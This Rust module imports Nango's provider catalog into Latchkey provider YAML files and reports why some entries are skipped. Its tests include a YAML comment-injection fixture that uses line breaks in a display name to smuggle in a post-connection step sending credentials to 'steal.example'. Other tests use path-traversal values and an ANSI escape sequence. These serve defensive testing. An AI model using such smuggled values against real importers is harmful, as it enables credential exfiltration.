//! Import of Nango's provider catalog (`providers.yaml` of the npm package
//! `@nangohq/providers`) into Latchkey provider files.
//!
//! Each entry either becomes `<name>.yaml`, checked by the same parser and
//! semantic checks as any provider file before it is written, or is listed
//! in the [`ImportReport`] with the reason it was not converted.

mod nango;
mod nango_post_connection;
mod template;

use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};

use serde_yaml::{Mapping, Value};

use crate::diagnostic::Diagnostic;
use crate::load::parse_provider;

/// The reason an entry was not converted: `kind` groups entries for the
/// counts, and `message` names the detail.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reason {
    pub kind: String,
    pub message: String,
}

impl Reason {
    fn new(kind: impl Into<String>, message: impl Into<String>) -> Reason {
        Reason {
            kind: kind.into(),
            message: message.into(),
        }
    }

    fn unsupported_mode(mode: &str) -> Reason {
        let message = format!("auth mode {mode} is not supported");
        Reason::new(message.clone(), message)
    }

    fn no_equivalent(field: &str) -> Reason {
        let message = format!("Nango field `{field}` has no Latchkey equivalent");
        Reason::new(message.clone(), message)
    }

    fn fallback(field: &str) -> Reason {
        let group: Vec<&str> = field.split('.').take(2).collect();
        let group = match group.as_slice() {
            ["proxy", second] => format!("proxy.{second}"),
            [first, ..] => (*first).to_owned(),
            [] => String::new(),
        };
        Reason::new(
            format!("template fallback in {group}"),
            format!("template fallback in {field}"),
        )
    }

    fn template(field: &str, message: &str) -> Reason {
        Reason::new(
            "template or key with no Latchkey form",
            format!("{field}: {message}"),
        )
    }

    fn credential_placement(message: &str) -> Reason {
        Reason::new("credential placement with no Latchkey form", message)
    }

    /// `detail` names the half and what is wrong with it.
    fn fixed_basic_half(detail: &str) -> Reason {
        Reason::new(
            "basic auth with a hidden username or password that cannot be fixed",
            format!("basic auth with a hidden {detail}"),
        )
    }

    fn script_variable(key: &str, script: &str) -> Reason {
        Reason::new(
            "template variable filled by a post-connection script",
            format!(
                "template variable `{key}` is filled by Nango's post-connection script `{script}`, which Latchkey does not run"
            ),
        )
    }

    fn undeclared(key: &str) -> Reason {
        Reason::new(
            "template variable not declared in connection_config",
            format!("template variable `{key}` is not declared in connection_config"),
        )
    }

    /// `part` names what the field's place in the URL allows, with its
    /// article: "a host name".
    /// Names what the example carries beyond its part of the URL when that
    /// is clear: a scheme, which the template already writes, or a port or
    /// path after a host name.
    fn example_outside_url_part(key: &str, example: &str, part: &str) -> Reason {
        let field = format!("the example `{example}` of connection-config field `{key}`");
        let message = if example.contains("://") && part != "an https origin" {
            format!("{field} starts with a scheme, but the URL template already writes `https://` before the field")
        } else if part == "a host name" && example.contains(['/', ':']) {
            format!("{field} carries a port or path after the host name, but the field sits in the URL's host, which holds only a host name")
        } else {
            format!("{field} is not {part}, which is all its place in the URL allows")
        };
        Reason::new(
            "example of a URL variable does not fit its part of the URL",
            message,
        )
    }

    fn loose_url_pattern(key: &str) -> Reason {
        Reason::new(
            "pattern of a URL variable accepts values that change the URL",
            format!(
                "the pattern of `{key}` accepts values that could change the URL's host or path"
            ),
        )
    }

    fn invalid_pattern(key: &str) -> Reason {
        Reason::new(
            "pattern is not a Rust regular expression",
            format!("the pattern of `{key}` is not a Rust regular expression"),
        )
    }

    fn reserved_header(field: &str, name: &str) -> Reason {
        Reason::new(
            "header that only the HTTP client sets",
            format!(
                "`{field}` sets the header `{name}`, which {}",
                crate::RESERVED_HEADER_REASON
            ),
        )
    }

    fn malformed(message: &str) -> Reason {
        Reason::new("unexpected entry shape", message)
    }

    fn invalid(diagnostics: &[Diagnostic]) -> Reason {
        let first = diagnostics.first().map_or_else(String::new, |diagnostic| {
            let path = diagnostic.path.as_deref().unwrap_or("(file)");
            format!("{path}: {}", diagnostic.message)
        });
        Reason::new(
            format!(
                "fails Latchkey validation ({})",
                diagnostics
                    .first()
                    .map_or("unknown", |diagnostic| diagnostic.code.as_str())
            ),
            format!("fails Latchkey validation: {first}"),
        )
    }
}

/// One entry written to the output directory.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConvertedEntry {
    pub name: String,
    /// The Latchkey mode, for example `oauth2`.
    pub mode: &'static str,
    pub path: PathBuf,
}

/// One entry that was not written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SkippedEntry {
    pub name: String,
    pub reason: Reason,
}

/// The outcome of an import: the entries converted and those left out.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ImportReport {
    pub total: usize,
    pub converted: Vec<ConvertedEntry>,
    pub not_converted: Vec<SkippedEntry>,
}

impl ImportReport {
    /// Number of entries not converted, per reason kind.
    pub fn counts_by_reason(&self) -> BTreeMap<&str, usize> {
        let mut counts = BTreeMap::new();
        for entry in &self.not_converted {
            *counts.entry(entry.reason.kind.as_str()).or_default() += 1;
        }
        counts
    }

    /// Renders the report as one JSON object.
    pub fn to_json(&self) -> String {
        let converted: Vec<_> = self
            .converted
            .iter()
            .map(|entry| serde_json::json!({"name": entry.name, "mode": entry.mode}))
            .collect();
        let not_converted: Vec<_> = self
            .not_converted
            .iter()
            .map(|entry| {
                serde_json::json!({
                    "name": entry.name,
                    "reason": entry.reason.kind,
                    "message": entry.reason.message,
                })
            })
            .collect();
        serde_json::json!({
            "total": self.total,
            "converted": self.converted.len(),
            "not_converted": self.not_converted.len(),
            "not_converted_by_reason": self.counts_by_reason(),
            "converted_entries": converted,
            "not_converted_entries": not_converted,
        })
        .to_string()
    }
}

impl fmt::Display for ImportReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "{} Nango entries: {} converted, {} not converted",
            self.total,
            self.converted.len(),
            self.not_converted.len()
        )?;
        let counts = self.counts_by_reason();
        if !counts.is_empty() {
            writeln!(f, "\nnot converted, by reason:")?;
            let mut by_count: Vec<_> = counts.into_iter().collect();
            by_count.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
            for (kind, count) in by_count {
                writeln!(f, "{count:>5}  {kind}")?;
            }
            writeln!(f, "\nnot converted:")?;
            for entry in &self.not_converted {
                // Names and reasons quote the input, which may hold control
                // characters.
                writeln!(
                    f,
                    "  {}: {}",
                    crate::escape_controls(&entry.name),
                    crate::escape_controls(&entry.reason.message)
                )?;
            }
        }
        Ok(())
    }
}

/// An error that stops an import before any entry is converted, or while
/// a file is written.
#[derive(Debug, thiserror::Error)]
pub enum ImportError {
    #[error("cannot read {}", path.display())]
    Read {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{} is not valid YAML", path.display())]
    Yaml {
        path: PathBuf,
        #[source]
        source: serde_yaml::Error,
    },
    #[error("{} is not a mapping from provider name to definition", path.display())]
    NotAMapping { path: PathBuf },
    #[error("cannot write {}", path.display())]
    Write {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
}

/// Converts the Nango `providers.yaml` at `input` into provider files in
/// `out_dir`, which is created when missing. An existing file of the same
/// name is replaced.
pub fn import_nango(input: &Path, out_dir: &Path) -> Result<ImportReport, ImportError> {
    let source = std::fs::read_to_string(input).map_err(|source| ImportError::Read {
        path: input.to_owned(),
        source,
    })?;
    let document: Value = serde_yaml::from_str(&source).map_err(|source| ImportError::Yaml {
        path: input.to_owned(),
        source,
    })?;
    let Value::Mapping(entries) = document else {
        return Err(ImportError::NotAMapping {
            path: input.to_owned(),
        });
    };
    std::fs::create_dir_all(out_dir).map_err(|source| ImportError::Write {
        path: out_dir.to_owned(),
        source,
    })?;

    let mut report = ImportReport {
        total: entries.len(),
        ..ImportReport::default()
    };
    for (name, entry) in resolve_aliases(&entries) {
        match convert_entry(&name, entry) {
            Ok((mode, text)) => {
                let path = out_dir.join(format!("{name}.yaml"));
                std::fs::write(&path, text).map_err(|source| ImportError::Write {
                    path: path.clone(),
                    source,
                })?;
                report.converted.push(ConvertedEntry { name, mode, path });
            }
            Err(reason) => report.not_converted.push(SkippedEntry { name, reason }),
        }
    }
    Ok(report)
}

/// Converts one entry into the text of a provider file that has passed
/// Latchkey's checks.
fn convert_entry(
    name: &str,
    entry: Result<Mapping, Reason>,
) -> Result<(&'static str, String), Reason> {
    let converted = nango::convert(name, &entry?)?;
    let document = Value::Mapping(converted.document);
    let yaml = serde_yaml::to_string(&document)
        .map_err(|error| Reason::malformed(&format!("cannot write YAML: {error}")))?;
    let mut header = format!(
        "# {}: imported from Nango's provider catalog (auth mode {}).\n",
        comment_text(&converted.display_name),
        converted.mode
    );
    for note in &converted.notes {
        header.push_str(&format!("# {}\n", comment_text(note)));
    }
    let mut yaml = yaml;
    for (line_start, comment) in &converted.field_comments {
        let at = yaml
            .find(&format!("\n{line_start}"))
            .map(|index| index + 1)
            .ok_or_else(|| {
                Reason::malformed(&format!("the converted file has no line `{line_start}`"))
            })?;
        let indent = &line_start[..line_start.len() - line_start.trim_start().len()];
        yaml.insert_str(at, &format!("{indent}# {}\n", comment_text(comment)));
    }
    let text = header + &yaml;
    // The comments must not change the file's content. Text that ended a
    // comment early would add keys of its own, such as a post-connection
    // step that sends each new credential elsewhere.
    let written: Value = serde_yaml::from_str(&text).map_err(|error| {
        Reason::malformed(&format!("cannot read back the written file: {error}"))
    })?;
    if written != document {
        return Err(Reason::malformed(
            "the written file reads back differently from the converted entry",
        ));
    }
    parse_provider(&format!("{name}.yaml"), &text)
        .map_err(|diagnostics| Reason::invalid(&diagnostics))?;
    Ok((converted.mode, text))
}

/// Returns `text` for one YAML comment line. Each character that YAML reads
/// as a line break (CR, LF, NEL, U+2028, U+2029) or that is another control
/// character becomes its Rust escape, so no text can end the comment early.
fn comment_text(text: &str) -> String {
    crate::escape_controls(text).into_owned()
}

/// Resolves `alias:` entries as Nango's loader does: in file order, each
/// alias becomes its target's current definition with the alias's own keys
/// laid over it, key by key at the top level only.
fn resolve_aliases(entries: &Mapping) -> Vec<(String, Result<Mapping, Reason>)> {
    let mut resolved: BTreeMap<String, Mapping> = BTreeMap::new();
    let mut result = Vec::new();
    for (name, entry) in entries {
        let name = match name {
            Value::String(name) => name.clone(),
            other => serde_yaml::to_string(other)
                .unwrap_or_default()
                .trim()
                .to_owned(),
        };
        let Some(entry) = entry.as_mapping() else {
            result.push((name, Err(Reason::malformed("the entry is not a mapping"))));
            continue;
        };
        let merged = match entry.get("alias").and_then(Value::as_str) {
            None => Ok(entry.clone()),
            Some(target) if target == name => Err(Reason::new(
                "alias to itself",
                format!("alias to `{target}`, the entry itself"),
            )),
            Some(target) => {
                let base = resolved
                    .get(target)
                    .cloned()
                    .or_else(|| entries.get(target).and_then(Value::as_mapping).cloned());
                match base {
                    // Only an alias that is not resolved yet, later in the
                    // file or in a cycle, still has its `alias` key.
                    Some(base) if base.contains_key("alias") => Err(Reason::new(
                        "alias to an unresolved alias",
                        format!(
                            "alias to `{target}`, which is itself an alias that is not resolved \
                             before this entry (a cycle, or a chain out of file order)"
                        ),
                    )),
                    Some(mut base) => {
                        for (key, value) in entry {
                            if key.as_str() != Some("alias") {
                                base.insert(key.clone(), value.clone());
                            }
                        }
                        Ok(base)
                    }
                    None => Err(Reason::new(
                        "alias to a missing entry",
                        format!("alias to `{target}`, which the file does not define"),
                    )),
                }
            }
        };
        if let Ok(merged) = &merged {
            resolved.insert(name.clone(), merged.clone());
        }
        result.push((name, merged));
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;

    const FIXTURE: &str = r#"
acme:
    display_name: Acme
    categories: [crm, popular, dev-tools, Not A Category, crm]
    auth_mode: OAUTH2
    authorization_url: https://${connectionConfig.subdomain}.acme.test/authorize
    token_url: https://${connectionConfig.subdomain}.acme.test/token
    token_params:
        grant_type: authorization_code
        audience: api
    token_request_auth_method: basic
    disable_pkce: true
    proxy:
        base_url: https://${connectionConfig.subdomain}.acme.test
    docs: https://nango.dev/docs/acme
    connection_config:
        subdomain:
            type: string
            title: Subdomain
            description: Copied prose that must not appear
            format: hostname
acme-sandbox:
    alias: acme
    display_name: Acme (Sandbox)
    proxy:
        base_url: https://${connectionConfig.subdomain}.sandbox.acme.test || https://fallback.acme.test
legacy:
    display_name: Legacy
    auth_mode: INSTALL_PLUGIN
    proxy:
        base_url: https://legacy.test
regional:
    display_name: Regional
    auth_mode: OAUTH2_CC
    token_url: https://${connectionConfig.region}.regional.test/token || https://regional.test/token
    proxy:
        base_url: https://regional.test
        headers:
            x-api-version: ${connectionConfig.version} || 2024-01-01
    connection_config:
        region:
            type: string
            title: Region of the account
            optional: true
        version:
            type: string
            title: API version
            automated: true
keyed:
    display_name: Keyed
    auth_mode: BASIC
    credentials:
        username:
            type: string
            title: Copied key title
        password:
            type: string
            title: ''
            default_value: X
            hidden: true
    proxy:
        base_url: https://api.keyed.test/${connectionConfig.tenantId}
    connection_config:
        tenantId:
            type: string
            title: Copied tenant title
            example: acme_1
scripted:
    display_name: Scripted
    auth_mode: OAUTH2
    authorization_url: https://scripted.test/authorize
    token_url: https://scripted.test/token
    post_connection_script: scriptedPostConnection
    proxy:
        base_url: https://api.scripted.test
        connection_config:
            siteId: ${connectionConfig.siteId}
    connection_config:
        siteId:
            type: string
            title: Site
scripted-host:
    display_name: Scripted host
    auth_mode: OAUTH2
    authorization_url: https://scripted.test/authorize
    token_url: https://scripted.test/token
    post_connection_script: scriptedPostConnection
    proxy:
        base_url: https://${connectionConfig.dc}.api.scripted.test
    connection_config:
        dc:
            type: string
            title: ''
            automated: true
hosted:
    display_name: Hosted
    auth_mode: API_KEY
    proxy:
        base_url: https://${connectionConfig.host}
        headers:
            authorization: Bearer ${apiKey}
    connection_config:
        host:
            type: string
            title: Host
            example: acme.hosted.test/main
hosted-sub:
    display_name: Hosted subdomain
    auth_mode: API_KEY
    proxy:
        base_url: https://${connectionConfig.host}.hosted.test
        headers:
            authorization: Bearer ${apiKey}
    connection_config:
        host:
            type: string
            title: Host
            example: acme/main
"#;

    fn import(fixture: &str) -> (tempfile::TempDir, ImportReport) {
        let dir = tempfile::tempdir().unwrap();
        let input = dir.path().join("providers.yaml");
        std::fs::write(&input, fixture).unwrap();
        let out = dir.path().join("out");
        let report = import_nango(&input, &out).unwrap();
        (dir, report)
    }

    fn reason<'a>(report: &'a ImportReport, name: &str) -> &'a str {
        let entry = report
            .not_converted
            .iter()
            .find(|entry| entry.name == name)
            .unwrap_or_else(|| panic!("{name} was converted"));
        &entry.reason.message
    }

    fn converted(dir: &tempfile::TempDir, name: &str) -> (String, crate::Provider) {
        let path = dir.path().join(format!("out/{name}.yaml"));
        let text = std::fs::read_to_string(&path)
            .unwrap_or_else(|error| panic!("{}: {error}", path.display()));
        let provider = parse_provider(&format!("{name}.yaml"), &text).unwrap();
        (text, provider)
    }

    #[test]
    fn fixture_counts_and_reasons() {
        let (_dir, report) = import(FIXTURE);
        assert_eq!(report.total, 9);
        let converted: Vec<_> = report
            .converted
            .iter()
            .map(|entry| entry.name.as_str())
            .collect();
        assert_eq!(
            converted,
            [
                "acme",
                "acme-sandbox",
                "regional",
                "keyed",
                "scripted",
                "hosted"
            ]
        );
        let legacy = reason(&report, "legacy");
        assert!(
            legacy.starts_with("auth mode INSTALL_PLUGIN is not supported: "),
            "{legacy}"
        );
        assert!(legacy.contains("website_id"), "{legacy}");
        assert_eq!(
            reason(&report, "scripted-host"),
            "template variable `dc` is filled by Nango's post-connection script `scriptedPostConnection`, which Latchkey does not run"
        );
        assert_eq!(
            reason(&report, "hosted-sub"),
            "the example `acme/main` of connection-config field `host` carries a port or path after the host name, but the field sits in the URL's host, which holds only a host name"
        );
    }

    #[test]
    fn host_with_path_gets_url_form() {
        let (dir, _report) = import(FIXTURE);
        let (_text, provider) = converted(&dir, "hosted");
        let field = &provider.connection_config["host"];
        assert_eq!(field.format, Some(crate::FieldFormat::HostPortPath));
        assert_eq!(field.pattern, None);
        assert_eq!(field.example.as_deref(), Some("acme.hosted.test/main"));
        assert_eq!(provider.proxy.base_url, "https://{{ host }}");
    }

    #[test]
    fn url_and_value_fallbacks_convert() {
        let (dir, _report) = import(FIXTURE);
        let (_text, provider) = converted(&dir, "regional");
        let crate::Auth::Oauth2ClientCredentials(settings) = &provider.auth else {
            panic!("mode is {}", provider.auth.mode_name());
        };
        assert_eq!(
            settings.token_url,
            "https://{{ region }}.regional.test/token"
        );
        assert_eq!(
            settings.token_url_fallbacks,
            ["https://regional.test/token"]
        );
        let region = &provider.connection_config["region"];
        assert!(region.optional);
        assert!(region.accepts("eu.west"));
        assert!(!region.accepts("a/b"));
        let version = &provider.connection_config["version"];
        assert_eq!(provider.proxy.headers["x-api-version"], "{{ version }}");
        assert_eq!(version.default.as_deref(), Some("2024-01-01"));
        assert!(version.optional);
    }

    #[test]
    fn hidden_password_becomes_fixed() {
        let (dir, _report) = import(FIXTURE);
        let (text, provider) = converted(&dir, "keyed");
        let crate::Auth::Basic(basic) = &provider.auth else {
            panic!("mode is {}", provider.auth.mode_name());
        };
        assert_eq!(basic.fixed_password.as_deref(), Some("X"));
        assert_eq!(basic.fixed_username, None);
        assert_eq!(basic.username_title, None);
        assert!(!text.contains("Copied"), "{text}");
        let tenant = &provider.connection_config["tenantId"];
        assert_eq!(tenant.title, "Tenant ID");
        assert!(tenant.accepts("acme_1"));
        for hostile in ["a/b", "..", ".", "a?b", "a#b", "a b", "a%2Fb"] {
            assert!(!tenant.accepts(hostile), "{hostile}");
        }
    }

    #[test]
    fn script_dropped_with_header_note() {
        let (dir, _report) = import(FIXTURE);
        let (text, provider) = converted(&dir, "scripted");
        let mut lines = text.lines();
        assert_eq!(
            lines.next(),
            Some("# Scripted: imported from Nango's provider catalog (auth mode oauth2).")
        );
        assert_eq!(
            lines.next(),
            Some(
                "# Nango's post-connection step is not run, so values it would record are absent."
            )
        );
        let site = &provider.connection_config["siteId"];
        assert_eq!(site.title, "Site ID");
        assert!(site.optional);
        assert!(!text.contains("connectionConfig"), "{text}");
    }

    #[test]
    fn converted_file_carries_facts_only() {
        let (dir, _report) = import(FIXTURE);
        let text = std::fs::read_to_string(dir.path().join("out/acme.yaml")).unwrap();
        let provider = parse_provider("acme.yaml", &text).unwrap();

        assert!(text
            .starts_with("# Acme: imported from Nango's provider catalog (auth mode oauth2).\n"));
        assert!(!text.contains("nango.dev"), "{text}");
        assert!(!text.contains("Copied prose"), "{text}");
        assert_eq!(provider.categories, ["crm", "developer-tools"]);
        assert_eq!(provider.docs_url, None);
        let crate::Auth::Oauth2(oauth) = &provider.auth else {
            panic!("mode is {}", provider.auth.mode_name());
        };
        assert_eq!(oauth.token_params.get("grant_type"), None);
        assert_eq!(oauth.token_params["audience"], "api");
        assert_eq!(oauth.refresh_params["audience"], "api");
        assert_eq!(oauth.client_auth, crate::ClientAuth::BasicAndBody);
        assert!(!oauth.pkce);
        let subdomain = &provider.connection_config["subdomain"];
        assert!(subdomain.pattern.is_some());
        assert!(!subdomain.accepts("a.b/c"));
    }

    #[test]
    fn alias_replaces_whole_proxy() {
        let (dir, _report) = import(FIXTURE);
        let text = std::fs::read_to_string(dir.path().join("out/acme-sandbox.yaml")).unwrap();
        let provider = parse_provider("acme-sandbox.yaml", &text).unwrap();

        assert_eq!(provider.display_name, "Acme (Sandbox)");
        assert_eq!(
            provider.proxy.base_url,
            "https://{{ subdomain }}.sandbox.acme.test"
        );
        assert_eq!(
            provider.proxy.base_url_fallbacks,
            ["https://fallback.acme.test"]
        );
        let crate::Auth::Oauth2(oauth) = &provider.auth else {
            panic!("mode is {}", provider.auth.mode_name());
        };
        assert_eq!(oauth.token_url, "https://{{ subdomain }}.acme.test/token");
    }

    #[test]
    fn alias_cycles_are_named() {
        let fixture = "self-alias:\n    alias: self-alias\nloop-a:\n    alias: loop-b\nloop-b:\n    alias: loop-a\n";
        let (_dir, report) = import(fixture);

        assert_eq!(
            reason(&report, "self-alias"),
            "alias to `self-alias`, the entry itself"
        );
        for (name, target) in [("loop-a", "loop-b"), ("loop-b", "loop-a")] {
            assert_eq!(
                reason(&report, name),
                format!(
                    "alias to `{target}`, which is itself an alias that is not resolved before \
                     this entry (a cycle, or a chain out of file order)"
                ),
                "{name}"
            );
        }
    }

    #[test]
    fn text_report_escapes_control_characters() {
        let fixture = "\"a\\e[31mred\":\n    alias: \"b\\r\\nc\"\n";
        let (_dir, report) = import(fixture);

        let text = report.to_string();
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{text:?}"
        );
        assert!(
            text.contains("  a\\u{1b}[31mred: alias to `b\\r\\nc`"),
            "{text}"
        );
    }

    #[test]
    fn display_name_cannot_end_its_comment() {
        for line_break in ["\\r", "\\n", "\\N", "\\L", "\\P"] {
            let fixture = format!(
                "inj:\n    auth_mode: API_KEY\n    display_name: \"Friendly{line_break}post_connection:{line_break}- url: https://steal.example/x{line_break}#\"\n    proxy:\n        base_url: https://api.example.com\n        headers:\n            x-api-key: ${{apiKey}}\n"
            );
            let (dir, report) = import(&fixture);

            assert!(report.converted.is_empty(), "{line_break}: {report}");
            assert!(
                reason(&report, "inj").contains("display_name"),
                "{line_break}: {report}"
            );
            assert!(!dir.path().join("out/inj.yaml").exists(), "{line_break}");
        }
        // The comment itself stays on one line whatever the text holds.
        assert_eq!(
            comment_text("a\rb\nc\u{85}d\u{2028}e"),
            "a\\rb\\nc\\u{85}d\\u{2028}e"
        );
    }

    #[test]
    fn unreadable_input_is_an_error() {
        let dir = tempfile::tempdir().unwrap();
        let input = dir.path().join("providers.yaml");
        std::fs::write(&input, "- not a mapping\n").unwrap();
        let error = import_nango(&input, &dir.path().join("out")).unwrap_err();
        assert!(matches!(error, ImportError::NotAMapping { .. }), "{error}");
        let missing = import_nango(&dir.path().join("missing.yaml"), dir.path()).unwrap_err();
        assert!(matches!(missing, ImportError::Read { .. }), "{missing}");
    }
}
